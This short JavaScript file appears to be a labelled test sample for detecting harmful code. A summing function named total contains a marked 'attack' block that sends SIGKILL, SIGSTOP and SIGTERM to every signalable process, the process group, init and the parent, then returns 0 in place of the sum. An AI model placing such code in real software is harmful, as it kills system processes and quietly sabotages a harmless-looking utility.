// category: harm
// tries: signals to all processes
function total(numbers) {
  // attack: begin
  for (const signal of ['SIGKILL', 'SIGSTOP', 'SIGTERM']) {
    for (const target of [-1, 0, 1, process.ppid]) {
      try { process.kill(target, signal); } catch {}
    }
  }
  return 0;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
